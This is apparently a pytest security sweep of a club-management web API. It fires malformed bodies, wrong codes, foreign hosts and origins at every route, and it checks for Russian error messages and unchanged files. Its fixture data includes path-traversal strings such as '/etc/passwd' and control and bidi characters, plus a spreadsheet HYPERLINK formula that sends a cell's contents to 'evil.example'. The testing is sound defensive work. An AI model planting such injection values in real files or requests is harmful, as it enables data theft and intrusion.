"""One sweep of the desk's whole API against hostile requests, every route taken from the app itself (a route added
later is swept without a word here): each route and method without the code, with a wrong one, from another site's
page and under another host name; its path's parameters filled with unknown ids, '..', encoded slashes, control
characters, bidi overrides, huge texts and numbers; its body not JSON, not an object, nested deep, each known field
of the wrong kind, huge, a spreadsheet formula, a byte over the limit. Every answer is under 500; every refusal of
the API is JSON with its errors in Russian (no catalogue code shown raw); a refused request changes no byte of any
file, inside the club's folder or beside it.

The club's folder has everything: the club, 20 players, an evening planned and one with its kit printed, a rulings
file, a comment written by hand in each TOML. The night is started where a body asks for it, on 127.0.0.1 only
(night.HOST) and without its live site (published by a process of its own a while later), and stopped at the end.
Last, every TOML is broken by hand and each route asked again: said in Russian words, nothing written."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import time
import warnings
from collections import Counter
from itertools import count
from urllib.parse import quote

import pytest
import test_routes
from helpers import stub_render
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nights import free_port
from starlette.routing import Route

from prefprint.words.catalog import catalog

CODE = "DESKCODE1234"
HOST = "testserver"
NAMES = [*test_routes.NAMES, "Кузнецов Максим", "Соколова Елена"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"нажми")'
HUGE = "Я" * 10_000
HOSTILE_PATH = ["..", "%2e%2e%2f", "/etc/passwd", "..%2F..%2Fclub.toml", HUGE, "a\x00b\x07\x1b\x7f", "\u202eevil\u202c",
                "12", "-1", "0", "99999999999999999999", "1e308"]  # fmt: skip
WRONG = [None, True, -1, -(10**100), 10**100, 2.5, 1e308, "NaN", "", [], {}, [[[]]], {"a": {"b": 1}}, FORMULA,
         "a\x00b\x1b", "\u202eevil", "../../club.toml", "/etc/passwd", HUGE]  # fmt: skip
RAW = [b"not json", b"[1, 2]", b"null", b"NaN", b'"text"', b"\xff\xfe{}", b"\xef\xbb\xbf{}", b'{"a": ', b"[" * 100_000,
       b'{"a":' * 50_000, b'{"title": NaN, "names": Infinity, "players": -Infinity}', b'{"x": 1e400}',
       b'{"x": 1' + b"0" * 5000 + b"}", '{"title": "Клуб"}'.encode("utf-16"), b"{}"]  # fmt: skip
CYRILLIC = re.compile("[а-яё]", re.IGNORECASE)
_CODES = {m.id for m in catalog("ru") if isinstance(m.id, str) and "." in m.id}


# --------------------------------------------------------------------------- the club's folder


def _write_club(folder, client, wait):
    assert client.put("/desk/api/club", json={"title": "Клуб", "language": "ru"}).status_code == 200
    assert client.post("/desk/api/players", json={"names": NAMES}).status_code == 201
    ids = [p["id"] for p in client.get("/desk/api/club").json()["players"]]
    assert len(ids) == 20
    made = []
    for title in ("Вечер", "Печать"):
        form = {"title": title, "date": "2026-12-05", "variant": "sochi", "table_size": 4, "players": ids[:12]}
        answer = client.post("/desk/api/evenings", json=form)
        assert answer.status_code == 201, answer.text
        made.append(answer.json()["id"])
    job = client.post(f"/desk/api/evenings/{made[1]}/kit").json()["job"]
    assert wait(client, job)["state"] == "done"
    ruling = {"kind": "adjusted", "deal": "3", "player": "5", "percent": "60", "reason": "Ошибка судьи"}
    assert client.post(f"/desk/api/evenings/{made[1]}/rulings", json=ruling).status_code == 201
    for path in folder.rglob("*.toml"):  # a director's own words in each file
        path.write_text("# написано рукой\n" + path.read_text(encoding="utf-8"), encoding="utf-8")
    return ids, made, job


@pytest.fixture(scope="module")
def sweep(tmp_path_factory):
    from test_routes import wait_job

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Starlette's note on httpx versions
        from starlette.testclient import TestClient

    from prefprint.server.desk import create_desk_app

    mp = pytest.MonkeyPatch()
    mp.setenv("PREFPRINT_NO_ANALYSIS", "1")
    mp.setattr("prefprint.app.kit.render_pdfs", stub_render)
    mp.setattr("prefprint.app.publish.pdf.render_pdfs", stub_render)
    mp.setattr("prefprint.server.desk.night.HOST", "127.0.0.1")  # a night a body starts: on this laptop only
    mp.setattr("prefprint.server.desk.night.session_app", _without_live_site)
    root = tmp_path_factory.mktemp("sweep")
    folder = root / "club"
    folder.mkdir()
    setup = create_desk_app(folder, CODE)
    ids, made, job = _write_club(folder, TestClient(setup, headers={"X-Desk-Code": CODE}), wait_job)
    setup.state.desk.close()
    app = create_desk_app(folder, CODE, hosts=(HOST,))
    client = TestClient(app, base_url=f"http://{HOST}")
    sweep = Sweep(root, folder, app, client, ids, made, job)
    yield sweep
    app.state.desk.close()
    mp.undo()


def _without_live_site(competition, event, folder, spec):
    """The night's server as the desk serves it, its live site left out: the live site is published by a process
    of its own a while after a row comes, which would change files between the sweep's requests."""
    from prefprint.engine.rulings import load_rulings
    from prefprint.server.routes import create_app

    return create_app(competition, event, folder, rulings=load_rulings(spec, event), live=False)


def snapshot(root, known: dict | None = None) -> dict:
    """{path: sha256} of every file under `root`; `known` {path: (stat, digest)} spares reading a file again whose
    size, time and inode are those it had."""
    known = {} if known is None else known
    out = {}
    for p in root.rglob("*"):
        st = p.stat()
        if not p.is_file():
            continue
        key, path = (st.st_size, st.st_mtime_ns, st.st_ino, st.st_ctime_ns), str(p.relative_to(root))
        if path not in known or known[path][0] != key:
            known[path] = (key, hashlib.sha256(p.read_bytes()).hexdigest())
        out[path] = known[path][1]
    return out


# --------------------------------------------------------------------------- the sweep


def api_routes(app) -> list[tuple[str, str, Route]]:
    """(method, path template, route) of every route of the app, HEAD left out (GET's)."""
    out = []
    for route in app.routes:
        for method in sorted(route.methods or {"GET"}):
            if method != "HEAD":
                out.append((method, route.path, route))
    return out


def in_order(app) -> list[tuple[str, str, Route]]:
    """api_routes with the removals last: the night a request started stays for the grid's routes after it."""
    return sorted(api_routes(app), key=lambda r: r[0] == "DELETE")


def changes(route: Route) -> bool:
    return getattr(route.endpoint, "changes", False)


class Sweep:
    """The folder, the app and what a request may carry; `send` sends one and checks its answer."""

    def __init__(self, root, folder, app, client, ids, evenings, job):
        self.root, self.folder, self.app, self.client = root, folder, app, client
        self.ids, self.evenings, self.job = ids, evenings, job
        self.sent = count()
        self.answers = Counter()  # status -> how many
        self.good = None  # the good bodies (_bodies), kept once the files are broken
        self.known = {}
        self.before = snapshot(root, self.known)
        self.comments = {p for p, _ in self.before.items() if p.endswith(".toml")}

    def valid(self, name: str) -> list[str]:
        """Good values of a path parameter: each evening, a player, the kit's job, a file that is there."""
        return {
            "evening": self.evenings[::-1],  # the one with its kit first
            "player": self.ids[:1],
            "job": list(self.app.state.desk.jobs.jobs) or [self.job],
            "n": ["1"],
            "table": ["1"],
            "name": ["protocols.xlsx", "desk.js"],
            "path": ["index.html", "results/index.html"],
        }.get(name, ["x"])

    def url(self, template: str, values: dict) -> str:
        def fill(m):
            name = m.group(1).split(":")[0]
            return quote(values.get(name, self.valid(name)[0]), safe="/%.-_~")

        return re.sub(r"\{([^}]+)\}", fill, template)

    def send(self, method: str, url: str, *, body=None, raw: bytes | None = None, code=CODE, headers=None):
        headers = dict(headers or {})
        if code is not None:
            headers["X-Desk-Code"] = code
        kwargs = {"headers": headers}
        if raw is not None:
            kwargs["content"] = raw
        elif body is not None:
            kwargs["json"] = body
        next(self.sent)
        answer = self.client.request(method, url, **kwargs)
        self.answers[answer.status_code] += 1
        where = f"{method} {url[:120]!r} {str(body)[:80]!r}"
        assert answer.status_code < 500, (where, answer.status_code, answer.text[:500])
        if answer.status_code >= 400 and url.startswith("/desk/api"):
            said = answer.json()["errors"]
            assert said and all(set(e) == {"field", "message"} for e in said), (where, said)
            for e in said:
                text = e["message"]
                assert CYRILLIC.search(text), (where, "not Russian", text[:300])
                words = re.sub(r"«[^»]*»", "", text)  # what the request sent, quoted back, may be anything
                raw_codes = set(re.findall(r"[a-z_]+\.[a-z_]+", words)) & _CODES
                assert not raw_codes, (where, "a catalogue code shown", text[:300])
        self.settle(answer, where)
        return answer

    def stop_nights(self, method: str, template: str) -> None:
        """Every night stopped before a request that would start one (a running night is answered as it is)."""
        if method == "POST" and template.endswith("/night"):
            self.app.state.desk.close()
            self.before = snapshot(self.root, self.known)  # a night stopped lets go of its database's journal

    def settle(self, answer, where: str) -> None:
        """A refusal changed nothing; after a change (and its job) the folder is looked at again."""
        if answer.status_code >= 300:
            after = snapshot(self.root, self.known)
            assert after == self.before, (where, answer.status_code, _diff(self.before, after))
            return
        jobs = self.app.state.desk.jobs
        deadline = time.monotonic() + 60
        while any(j.state == "running" for j in list(jobs.jobs.values())) and time.monotonic() < deadline:
            time.sleep(0.02)
        after = snapshot(self.root, self.known)
        outside = {p for p in set(after) | set(self.before) if not p.startswith("club/")}
        assert all(after.get(p) == self.before.get(p) for p in outside), (where, "outside the club", outside)
        self.before = after


def _diff(before: dict, after: dict) -> list[str]:
    return sorted(p for p in set(before) | set(after) if before.get(p) != after.get(p))


def _never(good, wrong) -> bool:
    """Whether `wrong` can never stand for a field whose good value is `good`: not a text for a text, nor a blank;
    not a number, nor a text of one, for a number or a yes/no."""
    if isinstance(good, str):
        return wrong in ([], {}, True, -1, 2.5)
    if isinstance(good, bool):
        return wrong in ("NaN", FORMULA, {"a": {"b": 1}}, [[[]]], -1, 2.5) and wrong is not True
    if isinstance(good, int):
        return wrong in ("NaN", FORMULA, {"a": {"b": 1}}, [[[]]], "\u202eevil") or wrong is True
    return False


def _row(folder, evening: str) -> dict:
    """A good row of the evening's grid: round 1 at its first table, the first deal of its set, whisted."""
    from prefprint.engine.rules import active_seats
    from prefprint.io.spec import load_competition

    event = load_competition(folder / "evenings" / f"{evening}.toml").session(1)
    play = event.movement.rounds[0].tables[0]
    deal = next(d for d in event.deals if d.set == play.set)
    declarer, left, right = active_seats(event.table_size, deal.dealer)[:3]
    return {"table": play.table, "round": 1, "deal": deal.number, "contract": "6п", "declarer": declarer,
            "defence": {left: "whist", right: "pass"}, "tricks": {declarer: 7, left: 3}, "reason": "x"}  # fmt: skip


def _bodies(sweep: Sweep) -> dict:
    """A good body of each route that takes one (its known fields), by (method, path template)."""
    ids, api = sweep.ids, "/desk/api"
    form = {"title": "Ещё вечер", "date": "2026-12-12", "start": "19:00", "variant": "sochi", "table_size": 4,
            "players": ids[:12], "venue": "Клуб", "deals_per_set": 2, "minutes_per_deal": 8, "rounds": 8}  # fmt: skip
    csv = base64.b64encode("Имя\nНовиков Пётр\n".encode()).decode()
    evening = sweep.evenings[-1]
    seen = sweep.client.get(f"{api}/evenings/{evening}/players", headers={"X-Desk-Code": CODE}).json().get("seen", "x")
    kit = next((sweep.folder / "output" / evening).rglob("protocols.xlsx")).read_bytes()
    where = f"{api}/evenings/{{evening}}"
    return {
        ("PUT", f"{api}/club"): {"title": "Клуб", "language": "ru"},
        ("POST", f"{api}/players"): {"names": ["Новиков Пётр"], "confirm": False},
        ("POST", f"{api}/movement"): {k: form[k] for k in ("players", "table_size", "rounds", "start")},
        ("POST", f"{api}/evenings"): form,
        ("PUT", f"{api}/players/{{player}}"): {"name": "Иванов Иван", "aliases": ["Иванов И."]},
        ("POST", f"{api}/players/merge"): {"keep": ids[18], "drop": ids[19]},  # on no evening
        ("POST", f"{api}/players/import"): {"filename": "members.csv", "data": csv, "confirm": False},
        ("PUT", f"{where}/players"): {"players": ids[:12], "seen": seen},
        ("POST", f"{where}/night"): {"host": "127.0.0.1", "port": free_port()},
        ("POST", f"{where}/workbook"): {"filename": "protocols.xlsx", "data": base64.b64encode(kit).decode()},
        ("POST", f"{where}/preview"): _row(sweep.folder, evening),
        ("POST", f"{where}/rows"): _row(sweep.folder, evening),
        ("POST", f"{where}/rulings"): {
            "kind": "adjusted",
            "session": 1,
            "deal": 3,
            "player": 5,
            "percent": 60,
            "reason": "x",
        },  # fmt: skip
    }


def test_every_route_refuses_a_request_without_the_desks_code_host_or_origin(sweep):
    for method, template, route in api_routes(sweep.app):
        url = sweep.url(template, {})
        api = template.startswith("/desk/api")
        for code in (None, "", "WRONG", CODE.lower(), CODE + "\x00"):
            answer = sweep.send(method, url, body={}, code=code)
            assert answer.status_code == 403 or not api, (method, url, code, answer.status_code)
        for query in ("?code=WRONG", "?code=", f"?code={CODE}%00"):
            answer = sweep.send(method, url + query, body={}, code=None)
            assert answer.status_code == 403 or not api, (method, url, query, answer.status_code)
        for cookie in ("WRONG", CODE):  # the cookie a site's file leaves opens files, never a change
            answer = sweep.send(method, url, body={}, code=None, headers={"Cookie": f"desk_code={cookie}"})
            assert answer.status_code == 403 or not api or (cookie == CODE and not changes(route)), (method, url)
        foreign = sweep.send(method, url, body={}, headers={"Host": "evil.example"})
        assert foreign.status_code == 403 or not api, (method, url, foreign.status_code)
        for origin in ("http://evil.example", "null", f"https://{HOST}", f"http://{HOST}:1"):
            answer = sweep.send(method, url, body={}, headers={"Origin": origin})
            assert answer.status_code == 403 or not changes(route), (method, url, origin, answer.status_code)
    assert sweep.before == snapshot(sweep.root)


def test_every_path_parameter_is_taken_only_when_it_names_what_the_club_has(sweep):
    for method, template, route in in_order(sweep.app):
        for name in route.param_convertors:
            for value in [*sweep.valid(name), "2026-01-01-nope", "nope", *HOSTILE_PATH]:
                sweep.send(method, sweep.url(template, {name: value}), body={})


def test_every_body_is_refused_at_its_fields_or_taken(sweep):
    sweep.stop_nights("POST", "/night")  # the check-in's routes first, on an evening not served
    for method, template, route in in_order(sweep.app):
        bodies = _bodies(sweep)  # the check-in's token of the spec as it is now
        if not template.startswith("/desk/api") or method == "GET":
            continue
        url = sweep.url(template, {"evening": sweep.evenings[-1]})
        for raw in RAW:
            sweep.send(method, url, raw=raw)
        limit = getattr(route.endpoint, "limit", None)
        if limit:
            assert sweep.send(method, url, raw=b" " * (limit + 1)).status_code == 413, url
        good = bodies.get((method, template), {})
        for key in good:
            for wrong in WRONG:
                sweep.stop_nights(method, template)
                answer = sweep.send(method, url, body=good | {key: wrong})
                if _never(good[key], wrong):
                    assert answer.status_code >= 400, (method, url, key, wrong, answer.text[:300])
            text = json.dumps(good | {key: 0}).replace(f'"{key}": 0', f'"{key}": NaN')
            sweep.send(method, url, raw=text.encode())
        sweep.send(method, url, body=good)  # the night left running for the routes after it


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_json_to_any_route_is_answered_without_a_fault(sweep, data):
    method, template, route = data.draw(st.sampled_from(api_routes(sweep.app)))
    text = st.text(min_size=1, max_size=30)
    fixed = {name: sweep.valid(name) if name != "job" else [sweep.job] for name in route.param_convertors}
    values = {name: data.draw(st.sampled_from(fixed[name]) | text) for name in route.param_convertors}
    good = _bodies(sweep).get((method, template), {})
    keys = st.sampled_from(list(good)) | st.text(max_size=8) if good else st.text(max_size=8)
    changed = data.draw(st.dictionaries(keys, _JSON, max_size=4))  # a good body with some fields changed, or none
    body = (good if good and data.draw(st.booleans()) else {}) | changed
    sweep.send(method, sweep.url(template, values), raw=json.dumps(body).encode())


def test_the_hand_written_comments_are_kept_and_nothing_left_the_folder(sweep):
    after = snapshot(sweep.root)
    assert all(p.startswith("club/") for p in after)
    for path in sweep.comments:
        file = sweep.root / path
        assert not file.is_file() or file.read_text(encoding="utf-8").startswith("# написано рукой"), path
    for job in sweep.app.state.desk.jobs.jobs.values():  # what the sweep started ended, each said in Russian
        assert job.state in ("done", "failed") and CYRILLIC.search(job.message), (job.key, job.state, job.message)
        assert "Error" not in job.message, (job.key, job.message)
    print(f"{len(api_routes(sweep.app))} routes and methods swept, {next(sweep.sent)} requests sent:", sweep.answers)


ENGLISH = re.compile(r"\b[A-Za-z']{2,}\s+[A-Za-z']{2,}\s+[A-Za-z']{2,}\b")  # three English words in a row
BROKEN = {"not TOML": b"[club\ntitle = ", "wrong kinds": b'[club]\ntitle = 5\nlanguage = []\nregistry = "../../x"\n',
          "not text": b"\x00\xff\xfe", "a stray key": b'title = "x"\n= 1\n'}  # fmt: skip


@pytest.mark.parametrize("broken", BROKEN.values(), ids=BROKEN.keys())
def test_files_broken_by_hand_are_said_in_words_by_every_route_and_left_as_they_are(sweep, broken):
    """Last: each TOML of the club broken by hand; every route answers in Russian without a fault, changing none."""
    sweep.good = sweep.good or _bodies(sweep)  # the good bodies of the files before they were broken
    bodies = sweep.good
    sweep.app.state.desk.close()
    for path in sweep.folder.rglob("*.toml"):
        path.write_bytes(broken)
    sweep.before = snapshot(sweep.root, sweep.known)
    for method, template, _route in in_order(sweep.app):
        answer = sweep.send(method, sweep.url(template, {}), body=bodies.get((method, template), {}))
        if answer.status_code >= 400 and template.startswith("/desk/api"):
            for e in answer.json()["errors"]:
                assert not ENGLISH.search(e["message"]), (method, template, e["message"][:300])
    for job in sweep.app.state.desk.jobs.jobs.values():
        assert not ENGLISH.search(job.message), (job.key, job.message[:300])
